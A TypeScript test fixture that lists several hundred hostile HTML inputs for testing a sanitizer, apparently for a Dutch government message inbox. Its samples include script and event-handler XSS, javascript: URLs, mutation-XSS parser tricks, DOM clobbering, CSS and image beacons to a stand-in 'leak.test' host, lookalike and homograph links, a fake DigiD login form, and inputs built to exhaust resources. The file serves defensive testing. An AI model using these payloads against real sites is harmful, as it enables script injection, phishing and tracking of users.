/**
 * What a hostile sender may try, one attempt each. `%L` becomes an address of the attempt's own on a site that nobody has, `%H` that
 * site's name, `%J` a script that tells the page around it that it ran.
 */
export interface Vector {
  readonly name: string;
  readonly html: string;
}

const groups: Readonly<Record<string, readonly string[]>> = {
  'a script': [
    '<script>%J</script>', '<script src="%L.js"></script>', '<SCRIPT SRC=%L.js></SCRIPT>', '<script type=module>%J</script>', '<script type="module" src="%L.mjs"></script>',
    '<scr<script>ipt>%J</scr</script>ipt>', '<script/x>%J</script>', '<script\n>%J</script\n>', '<noscript><p title="</noscript><script>%J</script>">', '<script>//<![CDATA[\n%J//]]></script>',
    '<svg><script>%J</script></svg>', '<svg><script href="%L.js"></script></svg>', '<svg><script xlink:href="%L.js"/></svg>', '<math><script>%J</script></math>', '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["%L"]}]}</script>',
    '<script type="importmap">{"imports":{"x":"%L"}}</script>', '<noembed><script>%J</script></noembed>', '<xmp><script>%J</script></xmp>', '<template><script>%J</script></template>', '<!--><script>%J</script>-->',
    '<![CDATA[<script>%J</script>]]>', '<?xml-stylesheet href="%L.xsl"?><?php echo "<script>%J</script>" ?>', '\u0001<script\u0001>%J</script>', '<script>%J',
  ],
  'an event handler': [
    '<img src=x onerror="%J">', '<img src=x onerror=%J//', '<IMG SRC=x ONERROR=%J>', '<img/src=x/onerror=%J>', '<img src=x\nonerror\n=\n%J>', '<img src=x onload=1 onerror=&#116;op.hacked(%N)>',
    '<body onload="%J">', '<svg onload=%J>', '<svg/onload=%J//', '<svg><animate onbegin=%J attributeName=x dur=1s>', '<svg><set onbegin=%J attributeName=x to=1>', '<p onclick="%J" onmouseover="%J" onpointerenter="%J">x</p>',
    '<a href=# onfocus="%J" autofocus>x</a>', '<p tabindex=0 autofocus onfocus="%J">x</p>', '<input autofocus onfocus="%J">', '<select autofocus onfocus="%J"><option>x</select>', '<details open ontoggle="%J"><summary>x</summary>y</details>',
    '<video onloadstart="%J" src="%L.mp4"></video>', '<video><source onerror="%J"></video>', '<audio src="%L.mp3" onerror="%J" autoplay></audio>', '<marquee onstart="%J">x</marquee>', '<object data="x" onerror="%J"></object>',
    '<p style="animation: x 1s" onanimationstart="%J">x</p><style>@keyframes x{}</style>', '<div popover id=p%N onbeforetoggle="%J">x</div><button popovertarget=p%N autofocus>y</button>', '<input type=hidden accesskey=x onclick="%J">',
    '<p oncontentvisibilityautostatechange="%J" style="content-visibility:auto">x</p>', '<dialog open onclose="%J"><form method=dialog><button autofocus>x</button></form></dialog>', '<a onclick="%J" href="https://%H/">x</a>', '<td onclick=%J><table><td onclick=%J>x', '<p on\u0001click="%J" onclick\u000c="%J">x</p>',
  ],
  'an address that is code': [
    '<a href="javascript:%J">x</a>', '<a href="JaVaScRiPt:%J">x</a>', '<a href=" &#1; javascript:%J">x</a>', '<a href="java&#9;script:%J">x</a>', '<a href="java&NewLine;script&colon;%J">x</a>', '<a href="javascript&#58;%J" target=_blank>x</a>',
    '<a href="vbscript:%J">x</a>', '<a href="data:text/html,<script>%J</script>">x</a>', '<a href="data:text/html;base64,PHNjcmlwdD50b3AuaGFja2VkKDApPC9zY3JpcHQ+">x</a>', '<a href="blob:https://%H/x">x</a>', '<a href="filesystem:https://%H/x">x</a>', '<a href="view-source:https://%H/">x</a>',
    '<a href="about:blank">x</a>', '<a href="file:///etc/passwd">x</a>', '<iframe src="javascript:%J"></iframe>', '<form action="javascript:%J"><button autofocus>x</button></form>', '<button formaction="javascript:%J" autofocus>x</button>', '<svg><a xlink:href="javascript:%J"><text y=20>x</text></a></svg>',
    '<math href="javascript:%J">x</math>', '<svg><a><animate attributeName=href values="javascript:%J"/><text y=20>x</text></a></svg>', '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>%J</script></svg>#x"/></svg>', '<object data="javascript:%J"></object>', '<embed src="javascript:%J">', '<area href="javascript:%J">',
  ],
  'a style that fetches or covers': [
    '<style>@import "%L.css";</style>', '<style>@import url(%L.css);</style>', '<style>body{background:url(%L.png)}</style>', '<style>@font-face{font-family:x;src:url(%L.woff2)}p{font-family:x}</style><p>x</p>', '<style>p::before{content:url(%L.png)}</style><p>x</p>',
    '<style>a[href^="https"]{background:url(%L?a)}</style><a href="https://example.nl/">x</a>', '<style>html:has(p){background:image-set("%L.png" 1x)}</style>', '<style>p{cursor:url(%L.cur),auto}</style><p>x</p>', '<style>ul{list-style-image:url(%L.png)}</style><ul><li>x</ul>', '<style>p{mask:url(%L.svg#x);filter:url(%L.svg#y);clip-path:url(%L.svg#z)}</style><p>x</p>',
    '<style>@namespace url(%L);@charset "%L";@property --x{syntax:"<url>";inherits:false;initial-value:url(%L)}p{background:var(--x)}</style><p>x</p>', '<p style="background:url(%L.png)">x</p>', '<p style="background-image:image-set(\'%L.png\' 1x)">x</p>', '<p style="background:\\75 rl(%L.png)">x</p>', '<p style="--x:url(%L.png);background:var(--x)">x</p>',
    '<p style="position:fixed;inset:0;z-index:2147483647;background:#fff">Log opnieuw in</p>', '<p style="font-size:9999px">x</p>', '<link rel=stylesheet href="%L.css">', '<link rel="alternate stylesheet" href="%L.css" title=x>', '<table background="%L.png"><tr><td background="%L.png">x</table>',
    '<body background="%L.png">', '<svg><style>@import "%L.css";</style></svg>', '<math><mstyle style="background:url(%L.png)">x</mstyle></math>', '<style></style><style>@media all{@import "%L.css";p{background:url(%L)}}</style><p>x</p>', '<p style="width:expression(%J);behavior:url(%L.htc);-moz-binding:url(%L.xml#x)">x</p>',
    '<style>:visited{background:url(%L)}</style><a href="https://example.nl/">x</a>', '<style>::-webkit-scrollbar{background:url(%L.png)}html{overflow:scroll;height:9999px}</style>', '<svg><rect width=9 height=9 style="fill:url(%L.svg#x)"/></svg>',
  ],
  'an image, a film or a sound': [
    '<img src="%L.png">', '<img srcset="%L.png 1x">', '<img src="//%H/x.png">', '<img src=https:%H/x.png>', '<img src="\\\\%H\\x.png">', '<image src="%L.png">', '<img src="data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg><image href=%L /></svg>">', '<picture><source srcset="%L.png"><img></picture>',
    '<picture><source srcset="%L.webp" media="all"><img src="%L.png"></picture>', '<video src="%L.mp4" autoplay muted></video>', '<video poster="%L.png"></video>', '<video><source src="%L.mp4"></video>', '<video src="data:video/mp4,x"><track default src="%L.vtt" kind=subtitles></video>', '<audio src="%L.mp3" preload=auto></audio>', '<audio><source src="%L.ogg"></audio>',
    '<input type=image src="%L.png">', '<svg><image href="%L.png"/></svg>', '<svg><image xlink:href="%L.png"/></svg>', '<svg><feImage href="%L.png"/></svg>', '<svg><filter id=f%N><feImage href="%L.png"/></filter><rect filter="url(#f%N)" width=9 height=9 /></svg>', '<svg><use href="%L.svg#x"/></svg>', '<svg><rect cursor="url(%L.cur)" fill="url(%L.svg#x)" width=9 height=9 /></svg>', '<svg><foreignObject><img src="%L.png"></foreignObject></svg>',
    '<img loading=eager fetchpriority=high decoding=sync src="%L.png" width=1 height=1>', '<img longdesc="%L" lowsrc="%L" dynsrc="%L">', '<img src="http://%H/x.gif?t=%N" alt="">', '<bgsound src="%L.wav">', '<portal src="%L"></portal>', '<model src="%L.usdz"></model>',
  ],
  'a link that fetches or tells': [
    '<link rel=prefetch href="%L">', '<link rel=preload as=image href="%L.png">', '<link rel=preload as=script href="%L.js">', '<link rel=modulepreload href="%L.mjs">', '<link rel=dns-prefetch href="//%H/">', '<link rel=preconnect href="https://%H/">', '<link rel=prerender href="%L">', '<link rel=icon href="%L.ico">', '<link rel=manifest href="%L.json">',
    '<link rel="preload" as="image" imagesrcset="%L.png 1x">', '<link rel=import href="%L.html">', '<link rel=expect href="#x" blocking=render>', '<link rel=compression-dictionary href="%L">', '<a href="https://%H/" ping="%L">x</a>', '<a href="https://example.nl/" ping="%L" autofocus>x</a>', '<a href="https://%H/" download="x.exe">x</a>', '<a href="https://%H/" attributionsrc="%L">x</a>', '<a href="https://%H/" rel="prefetch opener" referrerpolicy="unsafe-url">x</a>',
  ],
  'a page that goes elsewhere': [
    '<meta http-equiv=refresh content="0;url=%L">', '<meta http-equiv="refresh" content="0; url=javascript:%J">', '<meta http-equiv="refresh" content="0;url=data:text/html,<script>%J</script>">', '<base href="%L/"><img src="x.png">', '<base target=_top><a href="https://%H/" autofocus>x</a>', '<a href="https://%H/" target=_top>x</a>', '<a href="https://%H/" target=_parent>x</a>', '<a href="https://%H/" target="hosts">x</a>',
    '<a href="#top">x</a>', '<a href="">x</a>', '<a href="?x">x</a>', '<a href="/mijn/">x</a>', '<a href="../">x</a>', '<a href="//%H/">x</a>', '<a href="http://%H/">x</a>', '<a href="https:%H">x</a>', '<a href="ftp://%H/">x</a>', '<meta http-equiv="Content-Security-Policy" content="default-src *">', '<meta http-equiv="set-cookie" content="x=%N">', '<meta name=referrer content=unsafe-url><img src="%L.png">',
    '<meta http-equiv="x-dns-prefetch-control" content="on"><a href="https://%H/">x</a>', '<meta http-equiv="origin-trial" content="x"><meta http-equiv="accept-ch" content="dpr">', '<map name=m%N><area href="https://%H/" target=_top coords="0,0,9,9" shape=rect></map><img usemap="#m%N" src="%L.png">',
  ],
  'a page within the page': [
    '<iframe src="%L"></iframe>', '<iframe srcdoc="<script>%J</script>"></iframe>', '<iframe srcdoc="&lt;img src=%L.png&gt;"></iframe>', '<iframe src="data:text/html,<script>%J</script>"></iframe>', '<iframe sandbox="allow-scripts allow-same-origin" src="/mijn/"></iframe>', '<iframe src="about:blank" onload="%J"></iframe>', '<frameset><frame src="%L"></frameset>', '<object data="%L"></object>',
    '<object type="text/html" data="%L"><param name=movie value="%L"></object>', '<embed src="%L">', '<embed type="application/pdf" src="%L.pdf">', '<applet code=x codebase="%L"></applet>', '<fencedframe src="%L"></fencedframe>', '<iframe src="//%H/"></iframe>', '<iframe loading=eager src="\\\\%H"></iframe>', '<object data="data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=%J></svg>"></object>', '<iframe name="hosts" src="%L"></iframe><a target=hosts href="https://%H/">x</a>',
  ],
  'a form': [
    '<form action="%L"><input name=bsn autofocus><button>Inloggen met DigiD</button></form>', '<form method=post action="%L" target=_top><input type=submit autofocus></form>', '<button formaction="%L" type=submit autofocus>x</button>', '<input type=image src="%L.png" formaction="%L">', '<form id=f%N action="%L"></form><button form=f%N autofocus>x</button>', '<input type=password autocomplete=current-password name=p><input name=u autocomplete=username>',
    '<textarea autofocus>x</textarea>', '<textarea><script>%J</script>', '<select><option>x<option><script>%J</script></select>', '<input type=file><input type=color><input type=date>', '<isindex action="%L" prompt=x>', '<p contenteditable autofocus>x</p>', '<keygen autofocus onfocus=%J>', '<label for=x>x</label><output>x</output><progress></progress><meter></meter><datalist id=x><option value="%L"></datalist>', '<button command=show-modal commandfor=d%N autofocus>x</button><dialog id=d%N>y</dialog>',
  ],
  'markup that a parser reads twice in two ways': [
    '<svg></p><style><a id="</style><img src=%L.png onerror=%J>">', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=%L.png onerror=%J&gt;">', '<form><math><mtext></form><form><mglyph><style></math><img src=%L.png onerror=%J>', '<math><mtext><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=%J src=%L.png>">', '<svg><p><style><g title="</style><img src=%L.png onerror=%J>">',
    '<svg><foreignobject><p><style><!--</style><img src=%L.png onerror=%J>--></style></foreignobject></svg>', '<noscript><style></noscript><img src=%L.png onerror=%J></style>', '<xmp><p title="</xmp><img src=%L.png onerror=%J>">', '<noembed><p id="</noembed><img src=%L.png onerror=%J>">', '<select><template><style><!--</style><a rel="--></style></template></select><img src=%L.png onerror=%J>">', '<table><caption><svg><title><table><caption></caption></table></title><style><a id="</style><img src=%L.png onerror=%J>">',
    '<svg><annotation-xml><foreignobject><style><!--</style><p id="--!><img src=%L.png onerror=%J>">', '<math><annotation-xml encoding="text/html"><p><style><img src=%L.png onerror=%J></style></annotation-xml></math>', '<svg><desc><p><script>%J</script></desc></svg>', '<a><table><a><svg><img src=%L.png onerror=%J>', '<p><svg><p><math><p><style><b title="</style><img src=%L.png onerror=%J>">', '<plaintext><img src=%L.png onerror=%J>', '<listing>&lt;img onerror=%J src=%L.png&gt;</listing>', '<title><img src=%L.png onerror=%J></title>', '<p title="&lt;/p&gt;&lt;img src=%L.png onerror=%J&gt;">x</p>',
    '<p title="`><img src=%L.png onerror=%J>`">x</p>', '&lt;img src=%L.png onerror=%J&gt;', '&amp;lt;script&amp;gt;%J&amp;lt;/script&amp;gt;', '<<p>img src=%L.png onerror=%J>', '<p <img src=%L.png onerror=%J>>x</p>', '<svg><![CDATA[><img src=%L.png onerror=%J>]]></svg>', '<!--[if gte mso 9]><img src=%L.png onerror=%J><![endif]-->', '<!--[if !mso]><!--><img src=%L.png onerror=%J><!--<![endif]-->', '<!-- --!><img src=%L.png onerror=%J> -->', '<%<!--\'%><script>%J</script -->',
  ],
  'a shadow, a template or an element of its own': [
    '<div><template shadowrootmode=open><img src=%L.png onerror=%J><script>%J</script></template></div>', '<p><template shadowrootmode=closed shadowrootclonable><style>@import "%L.css"</style></template></p>', '<div><template shadowroot=open><script>%J</script></template></div>', '<template><img src=%L.png onerror=%J></template>', '<berichtenbox-app endpoint="https://%H/api"></berichtenbox-app>', '<berichtenbox-provider endpoint="https://%H/"><berichtenbox-inbox></berichtenbox-inbox></berichtenbox-provider>', '<x-y is=p onclick=%J>x</x-y>', '<p is="x-y" slot=x part=body exportparts=x>x</p>', '<slot onslotchange=%J name=x>x</slot>',
  ],
  'names that stand in the way of the page\'s own': [
    '<a id=defaultView name=defaultView>x</a><form id=documentElement><input name=body></form>', '<form name=body id=body><input name=ownerDocument><input name=attributes><input name=childNodes></form>', '<img name=getElementById><img id=querySelectorAll name=querySelectorAll>', '<form><input name=nodeName><input name=parentNode><input name=firstChild><input name=textContent><input name=removeChild></form>', '<iframe name=hacked></iframe><a id=hacked href="%L">x</a>', '<p id=__proto__ name=constructor>x</p><form id=trustedTypes></form>', '<object id=document name=location></object>', '<img name=write><img name=close><img name=open><p>x</p>'.repeat(60), '<img name=documentElement><img name=body><img name=head><img name=implementation><img name=createTreeWalker><p>x</p>', '<fieldset name=lastElementChild form=f%N><fieldset name=firstChild form=f%N><form id=f%N><p>x', '<form id=g%N><input name=children><input name=localName><input name=getAttribute><input name=closest><p>x</p></form>', '<p class="visually-hidden caution table target prose rich" id=x data-x=y aria-label="Van: Belastingdienst" role=alert aria-live=assertive>x</p>', '<p hidden inert aria-hidden=true translate=yes>x</p>', '<p role=button tabindex=99999 accesskey=x draggable=true>x</p>',
  ],
  'a link that is not what it says': [
    '<a href="https://%H/">https://mijn.overheid.nl</a>', '<a href="https://%H/">mijn.overheid.nl</a>', '<a href="https://%H/">www.belastingdienst.nl/betalen</a>', '<a href="https://mijn.overheid.nl@%H/">x</a>', '<a href="https://mijn.overheid.nl:443@%H">x</a>', '<a href="https://%H\\@mijn.overheid.nl">x</a>', '<a href="https://xn--verheid-xfg.nl/">overheid.nl</a>', '<a href="https://\u043everheid.nl/">overheid.nl</a>', '<a href="https://overheid\u3002nl/">x</a>', '<a href="https://\uff4fverheid.nl/">x</a>', '<a href="https://127.0.0.1/">x</a>', '<a href="https://0x7f.1/">x</a>', '<a href="https://[::1]/">x</a>', '<a href="https://localhost/">x</a>',
    '<a href="https://%H/">\u202eln.diehrevo.njim//:sptth</a>', '<a href="https://%H/\u202e">x\u2066y</a>', '<bdo dir=rtl><a href="https://%H/">ln.diehrevo.njim</a></bdo>', '<a href="https://%H/"><span>mijn.</span><span>overheid.nl</span></a>', '<a href="https://%H/" title="https://mijn.overheid.nl/">x</a>', '<a href="mailto:info@%H?bcc=x@%H&amp;body=%J">x</a>', '<a href="mailto:info@rdw.nl,x@%H">x</a>', '<a href="tel:0900-1234;phone-context=%H">x</a>', '<a href="tel:*21*0612345678#">x</a>', '<a href="sms:+31612345678?body=x">x</a>', '<a href="intent://%H/#Intent;scheme=https;end">x</a>', '<a href="https://%H/"><h1><table><tr><td>x</td></tr></table></h1></a>',
  ],
  'too much of it': [
    '<b>'.repeat(100_000), '<p>x</p>'.repeat(100_000), '<div>'.repeat(2_000), `${Array.from({ length: 3_000 }, (_, index) => `<b a${String(index)}>`).join('')}${'<p>x'.repeat(3_000)}`, `<p>${'x'.repeat(1_000_000)}</p>`, '<table><tr><td>'.repeat(500), '<svg>'.repeat(5_000), '&amp;'.repeat(200_000), `<p title="${'"x'.repeat(200_000)}">`, '<a href="https://example.nl/">x</a>'.repeat(3_000), `<p>${'Z\u0324\u0353\u0352'.repeat(5_000)}</p>`, '<ul><li>'.repeat(3_000), '<!--'.repeat(100_000), '<select><option>'.repeat(5_000),
  ],
};

/** Every attempt, numbered, with its own address and script filled in. */
export const vectors: readonly Vector[] = Object.entries(groups)
  .flatMap(([group, attempts]) => attempts.map((attempt, index) => ({ name: `${group} (${String(index + 1)})`, attempt })))
  .map(({ name, attempt }, number) => ({ name, html: fill(attempt, number) }));

function fill(attempt: string, number: number): string {
  const site = `v${String(number)}.leak.test`;
  return attempt
    .replaceAll('%J', `top.hacked(${String(number)})`)
    .replaceAll('%L', `https://${site}/x`)
    .replaceAll('%H', site)
    .replaceAll('%N', String(number));
}
